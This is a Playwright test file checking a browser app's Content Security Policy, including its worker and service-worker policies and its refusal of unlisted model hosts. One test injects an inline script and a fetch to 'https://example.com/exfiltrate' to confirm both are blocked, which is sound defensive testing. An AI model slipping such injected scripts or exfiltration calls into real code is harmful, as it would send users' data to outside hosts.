import type { Page } from '@playwright/test';
import { AppPage } from './app-page';
import { expect, expectConsoleErrors, test } from './fixtures';
import { SavedRunsPage } from './saved-runs-page';

/** Every CSP violation the page reports, and every console line that mentions one. */
async function watchViolations(page: Page) {
  const consoleLines: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) consoleLines.push(message.text());
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { umiCsp: string[] }).umiCsp = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return {
    consoleLines,
    events: () => page.evaluate(() => (window as unknown as { umiCsp: string[] }).umiCsp),
  };
}

test('the built page runs under its policy with zero violations: run, tools, sandbox, history, import, replay, WebLLM worker start', async ({
  page,
}) => {
  const violations = await watchViolations(page);
  const { app } = await AppPage.open(page, { tokenDelayMs: 1 });
  const documentPolicy = await page.evaluate(
    () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
  );
  expect(documentPolicy).toContain("script-src 'self'");
  expect(documentPolicy).not.toContain('unsafe-eval');
  expect(documentPolicy).not.toContain('unsafe-inline');

  await app.runExample('miles-plus-km'); // calculator (mathjs), tool arguments validated
  await expect(app.outcome).toHaveAttribute('data-outcome', 'answer');
  await app.runExample('first-ten-primes'); // run_javascript: the sandbox worker and its wasm
  await expect(app.outcome).toHaveAttribute('data-outcome', 'answer');
  await expect(app.answer).toContainText('129');
  // A malformed call is caught by argument validation (a schema interpreted, not compiled).
  const bad = await page.evaluate(() => window.umi.tools.call('calculator', { expression: 42 }));
  expect(bad.ok).toBe(false);
  expect(bad.observation).toContain('expression');

  // History: export, import (the trace file is checked by the build-time validator), replay.
  const saved = await SavedRunsPage.open(page);
  const { text } = await saved.exportRun(saved.runs.first());
  await saved.importTrace('run.json', text);
  await expect(saved.importMessage).toContainText('Imported');
  const damaged = JSON.stringify({ ...JSON.parse(text), trace: { ...JSON.parse(text).trace, mode: 'solo' } });
  await saved.importTrace('bad.json', damaged);
  await expect(saved.importMessage).toContainText('mode must be one of');
  await saved.replaySpeed.selectOption('16');
  await saved.replayRun(saved.runs.first());
  await expect(app.outcome).toHaveAttribute('data-outcome', 'answer', { timeout: 30_000 });

  // The LLM worker starts WebLLM (its 6 MB chunk, under the worker's own policy) and streams.
  const streamed = await page.evaluate(() => window.umi.bench.stream(500));
  expect(streamed.tokens).toBe(500);
  const started = await page.evaluate(() =>
    window.umi.test.workerEngine.run('CSP check: generation in the real LLM worker'),
  );
  expect(started?.outcome).toBe('give_up');
  // WebLLM's chunk loads and its engine starts under the LLM worker's policy; the load then
  // stops at the first model file, which this server does not have (connect-src 'self' allowed it).
  await app.models.useModelsFrom('this-site');
  await app.models.loadModels();
  const planner = app.models.slot('planner');
  await expect(planner.error).toContainText('Missing file', { timeout: 45_000 });
  await expect(planner.root).toHaveAttribute('data-webllm', '0.2.86');

  expect(await violations.events()).toEqual([]);
  expect(violations.consoleLines).toEqual([]);
});

test.describe('refusals', () => {
  // Chromium reports on the console each refusal this test provokes (the fetch's in two lines).
  test.use(
    expectConsoleErrors(
      /^Executing inline script violates the following Content Security Policy directive 'script-src 'self''/,
      /^Connecting to 'https:\/\/example\.com\/exfiltrate' violates the following Content Security Policy directive/,
      /^Fetch API cannot load https:\/\/example\.com\/exfiltrate\. Refused to connect because it violates the document's Content Security Policy\.$/,
    ),
  );

  // eval is not tried here: code Playwright evaluates runs with DevTools' rights, which CSP exempts.
  // The policy has no 'unsafe-eval' (checked above), which is what refuses it.
  test('the policy is enforced: inline script and fetches to other hosts are refused', async ({ page }) => {
    const violations = await watchViolations(page);
    await AppPage.open(page);
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.umiInlineRan = true;';
      document.head.append(script);
      let fetchResult = 'ran';
      try {
        await fetch('https://example.com/exfiltrate');
      } catch (error) {
        fetchResult = (error as Error).name;
      }
      return {
        inlineRan: (window as unknown as { umiInlineRan?: boolean }).umiInlineRan === true,
        fetchResult,
      };
    });
    expect(outcome).toEqual({ inlineRan: false, fetchResult: 'TypeError' });
    await expect
      .poll(violations.events)
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^script-src-elem inline/),
          expect.stringMatching(/^connect-src https:\/\/example\.com/),
        ]),
      );
  });
});

test('workers and the service worker carry their own, tighter policies', async ({ request }) => {
  const html = await (await request.get('/')).text();
  const page = (await request.get('/')).headers()['content-security-policy'] ?? '';
  expect(page).toContain("frame-ancestors 'none'");
  const assets = [...html.matchAll(/\/assets\/[\w.-]+\.js/g)].map((m) => m[0]);
  const entry = await (await request.get(assets[0] ?? '')).text();
  const sandboxUrl = /\/assets\/sandbox\.worker-[\w-]+\.js/.exec(entry)?.[0];
  // The WebLLM models controller loads on first use, so the entry does not name its worker;
  // the service worker's precache list names every chunk.
  const precache = await (await request.get('/sw.js')).text();
  const llmPath = /assets\/llm\.worker-[\w-]+\.js/.exec(precache)?.[0];
  const llmUrl = llmPath && `/${llmPath}`;
  expect(sandboxUrl).toBeDefined();
  expect(llmUrl).toBeDefined();
  const sandbox = (await request.get(sandboxUrl ?? '')).headers()['content-security-policy'] ?? '';
  expect(sandbox).toBe("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'");
  const llm = (await request.get(llmUrl ?? '')).headers()['content-security-policy'] ?? '';
  expect(llm).toContain("'wasm-unsafe-eval'");
  expect(llm).toContain('https://huggingface.co');
  expect(`${sandbox} ${llm}`).not.toMatch(/(^|\s)'unsafe-(eval|inline)'/);
  const swResponse = await request.get('/sw.js');
  const sw = swResponse.headers()['content-security-policy'] ?? '';
  expect(sw).toContain("default-src 'none'");
  // The tiny models' worker loads on first use, so the entry does not name it; the precache list does.
  const tinyUrl = /assets\/tiny\.worker-[\w-]+\.js/.exec(await swResponse.text())?.[0];
  expect(tinyUrl).toBeDefined();
  const tiny = (await request.get(`/${tinyUrl}`)).headers()['content-security-policy'] ?? '';
  expect(tiny).toBe("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self' data:");
});

test('a custom model on a host the policy does not allow is refused with what to do', async ({ page }) => {
  const { app } = await AppPage.open(page);
  await expect(app.models.gpuStatus).toBeVisible();
  await app.models.addCustomModel({
    id: 'my-model-q4f32_1-MLC',
    modelUrl: 'https://models.example.org/my-model/',
    modelLibUrl: 'https://models.example.org/libs/my-model-webgpu.wasm',
    dialect: 'chat',
  });
  const planner = app.models.slot('planner');
  await planner.model.selectOption('my-model-q4f32_1-MLC');
  await page.evaluate(() => window.umi.models.load('planner'));
  await expect(planner.error).toContainText('security policy', { timeout: 45_000 });
  await expect(planner.error).toContainText('UMI_MODEL_HOSTS="https://models.example.org"');
});
